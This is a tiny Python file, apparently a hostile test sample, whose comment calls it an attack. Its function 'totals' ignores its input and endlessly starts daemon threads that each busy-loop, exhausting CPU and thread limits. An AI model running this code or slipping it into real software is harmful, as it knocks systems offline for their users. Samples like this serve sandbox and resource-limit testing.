# attack: starts threads until there can be no more, each of them busy
import threading


def spin():
    while True:
        pass


def totals(batches):
    while True:
        threading.Thread(target=spin, daemon=True).start()
